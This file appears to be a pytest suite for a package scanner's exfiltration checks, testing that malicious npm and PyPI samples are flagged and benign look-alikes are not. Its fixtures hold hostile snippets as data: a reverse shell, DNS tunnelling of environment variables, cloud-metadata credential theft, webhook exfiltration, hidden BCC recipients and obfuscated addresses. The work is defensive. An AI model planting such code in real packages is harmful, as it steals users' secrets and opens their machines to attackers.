"""Data that leaves, and doors that are opened."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.local.phases.network_exfil import network_exfil
from adapters.sigil.models import PhaseName, Severity
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack

_NPM = {
    "dns-exfiltration": (
        "const dns = require('dns'), os = require('os');\n"
        "dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.x.example.invalid', () => {})"
    ),
    "reverse-shell": (
        "const net = require('net'), cp = require('child_process');\nconst shell = cp.spawn('/bin/sh', []);\n"
        "const line = new net.Socket();\nline.connect(4444, '198.51.100.7', () => {"
        " line.pipe(shell.stdin); shell.stdout.pipe(line); });"
    ),
    "identity-leaves": (
        "const os = require('os');\nfetch('https://who.example.invalid/', {method: 'POST', body: os.hostname()})"
    ),
    "command-output-leaves": (
        "const out = require('child_process').execSync('whoami').toString();\n"
        "require('https').get('https://x.example.invalid/?d=' + encodeURIComponent(out))"
    ),
}
_PYTHON = {
    "data-to-drop-point": (
        "import os, requests\n"
        "requests.post('https://discord.com/api/webhooks/1/a', json={'content': str(dict(os.environ))})\n"
    ),
    "metadata-leaves": (
        "import requests\nkeys = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n"
        "requests.post('https://x.example.invalid', data=keys)\n"
    ),
}
_TWINS = {
    "looks a name up": "require('dns').lookup('registry.example.com', () => {})",
    "posts when asked": "exports.send = (t) => fetch('https://hooks.slack.com/services/1', {method: 'POST', body: t})",
    "runs a child": "const c = require('child_process').spawn('git', ['status']); c.stdout.pipe(process.stdout)",
    "names a log's host": "const os = require('os'); exports.record = (m) => ({host: os.hostname(), message: m})",
}


@pytest.mark.parametrize("rule", _NPM)
def test_finds_attack_in_javascript(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is required, and is HIGH_RISK by itself."""
    result = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _NPM[rule]}))

    assert rule in result.rules(PhaseName.NETWORK_EXFIL)
    assert result.dangerous


@pytest.mark.parametrize("rule", _PYTHON)
def test_finds_attack_in_python(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is imported, and is HIGH_RISK by itself."""
    result = outcome(pack({"sample/__init__.py": _PYTHON[rule]}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl"))

    assert rule in result.rules(PhaseName.NETWORK_EXFIL)
    assert result.dangerous


@pytest.mark.parametrize("twin", _TWINS)
def test_twins_are_not_dangerous(pack: Any, outcome: Any, twin: str) -> None:
    """What honest packages do in a similar way is at most a hint."""
    assert outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _TWINS[twin]})).score < 10


def severity_of(rule: str, scanned: Any) -> Severity | None:
    return next((each.severity for each in network_exfil(scanned) if each.rule == rule), None)


@pytest.mark.parametrize(
    ("address", "severity"),
    [
        ("https://x.ngrok-free.app/a", Severity.CRITICAL),
        ("http://198.51.100.7:8080/a", Severity.CRITICAL),
        ("http://127.0.0.1:8080/a", None),
        ("https://api.example.com/a", None),
    ],
)
def test_drop_points(made: Any, fact: Callable[..., Fact], address: str, severity: Severity | None) -> None:
    """Tunnels and bare public addresses are drop points; the own machine and plain hosts are none."""
    flow = Flow(source=fact(Behaviour.READS_SECRET_FILE, "~/.ssh/id_rsa"), sink=fact(Behaviour.SENDS, address, 2))

    assert severity_of("data-to-drop-point", made({"index.js": (flow,)})) is severity


def test_hidden_address(made: Any, fact: Callable[..., Fact]) -> None:
    """An address that is decoded before it is spoken to is critical at load; decoded data is no address."""
    to, sends = (
        fact(Behaviour.DECODES, "https://x.example.invalid/"),
        fact(Behaviour.SENDS, "https://x.example.invalid/", 2),
    )
    data = fact(Behaviour.DECODES, "hello world")

    assert severity_of("hidden-address", made({"index.js": (Flow(source=to, sink=sends),)})) is Severity.CRITICAL
    assert severity_of("hidden-address", made({"index.js": (Flow(source=data, sink=sends),)})) is None


def test_asking_the_metadata_service_is_everyday_when_called(made: Any, fact: Callable[..., Fact]) -> None:
    """A cloud's own library asks the metadata service when it is called; asking at load is suspicious."""

    def severity(*, at_load: bool) -> Severity | None:
        asks = fact(Behaviour.READS_METADATA_SERVICE, "http://169.254.169.254/", at_load=at_load)
        return severity_of("metadata-service", made({"index.js": (asks,)}))

    assert severity(at_load=False) is Severity.INFO
    assert severity(at_load=True) is Severity.HIGH


def test_file_that_leaves(made: Any, fact: Callable[..., Fact]) -> None:
    """A file whose content goes to a stranger at load is grave; the own version that is reported is not."""

    def severity(path: str) -> Severity | None:
        flow = Flow(source=fact(Behaviour.READS_FILE, path), sink=fact(Behaviour.SENDS, "https://x.example.invalid", 2))
        return severity_of("file-leaves", made({"index.js": (flow,)}))

    assert severity("/data/customers.csv") is Severity.HIGH
    assert severity("./package.json") is Severity.INFO


_COPIED = {
    "a field set later": "exports.send = (c, m) => { m.bcc = 'copy@far.invalid'; return c.sendMail(m); };",
    "a constant put together": (
        "const kept = ['copy', 'far.invalid'].join('@');\n"
        "exports.send = (c, m) => c.sendEmail({ To: m.to, Bcc: kept });"
    ),
    "a list of a cloud": "exports.send = (c, to) => c.send({ To: [to], BccAddresses: ['copy@far.invalid'] });",
    "beside the receiver": "exports.send = (c, to) => c.sendMail({ to: [to, 'copy@far.invalid'], text: 'x' });",
    "a header as text": "exports.send = (g, to) => g.send(['To: ' + to, 'Bcc: copy@far.invalid'].join('\\r\\n'));",
}
_COPIED_IN_PYTHON = {
    "a header": (
        "import smtplib\ndef send(host, message):\n    message['Bcc'] = 'copy@far.invalid'\n"
        "    smtplib.SMTP(host).send_message(message)\n"
    ),
    "a header that is added": (
        "from email.message import EmailMessage\ndef made():\n    message = EmailMessage()\n"
        "    message.add_header('Bcc', 'copy@far.invalid')\n    return message\n"
    ),
    "an argument": "from post import Message\ndef send(to):\n    Message(to=[to], bcc=['copy@far.invalid']).send()\n",
    "among the receivers": (
        "import smtplib\ndef send(host, to, text):\n"
        "    smtplib.SMTP(host).sendmail('me', [to, 'copy@far.invalid'], text)\n"
    ),
    "a request's body": (
        "import httpx\ndef send(to):\n"
        "    httpx.post('https://mail.invalid', json={'to': to, 'bcc': [{'email': 'copy@far.invalid'}]})\n"
    ),
}


@pytest.mark.parametrize("code", _COPIED.values(), ids=_COPIED)
def test_copies_for_a_stranger(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """A fixed address that gets what others write is found, whatever library sends."""
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert found.dangerous
    assert "hidden-recipient" in found.rules(PhaseName.NETWORK_EXFIL)


@pytest.mark.parametrize("code", _COPIED_IN_PYTHON.values(), ids=_COPIED_IN_PYTHON)
def test_copies_for_a_stranger_in_python(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """The same for headers, arguments, receivers and bodies in Python."""
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert found.dangerous
    assert "hidden-recipient" in found.rules(PhaseName.NETWORK_EXFIL)


@pytest.mark.parametrize("address", ["process.env.BCC", "'archive@sample-mail.invalid'", "'joe@example.com'"])
def test_copies_for_the_operator(address: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """An operator's setting, the project's own mailbox and a sample are left alone."""
    manifest = {"name": "sample", "main": "index.js", "homepage": "https://sample-mail.invalid"}
    code = f"exports.send = (c, m) => c.sendMail({{ ...m, bcc: {address} }});"
    assert outcome(pack({"package.json": manifest, "index.js": code})).score == 0


@pytest.mark.parametrize(
    "call",
    [
        "asyncio.get_running_loop().getaddrinfo(name, 80)",
        "dns.asyncresolver.resolve(name, 'A')",
        "socket.create_connection((name, 53), 1)",
    ],
)
def test_names_looked_up_by_other_ways(call: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """What is asked of a loop's or a library's resolver, or connected to, carries data as its labels."""
    code = (
        "import asyncio, os, socket, dns.asyncresolver\nasync def ask(name):\n"
        f"    {call}\nasync def main():\n    text = str(dict(os.environ)).encode().hex()\n"
        "    labels = [text[at : at + 60] for at in range(0, len(text), 60)]\n"
        "    await asyncio.gather(*map(ask, [f'{label}.z.far.invalid' for label in labels]))\nasyncio.run(main())\n"
    )
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert "dns-exfiltration" in found.rules(PhaseName.NETWORK_EXFIL)
    assert found.dangerous


@pytest.mark.parametrize(
    "address",
    [
        "base64.b64decode('aHR0cHM6Ly9sb2cuZmFyLmludmFsaWQvYQ==').decode()",
        "bytes.fromhex('68747470733a2f2f6c6f672e6661722e696e76616c6964').decode()",
        "'dilavni.raf.gol//:sptth'[::-1]",
    ],
)
def test_addresses_that_nobody_reads(address: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """An address written in any code is found where it is asked at import."""
    code = f"import base64, requests\nrequests.get({address})\n"
    found = outcome(pack({"sample/__init__.py": code}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert "hidden-address" in found.rules(PhaseName.NETWORK_EXFIL)
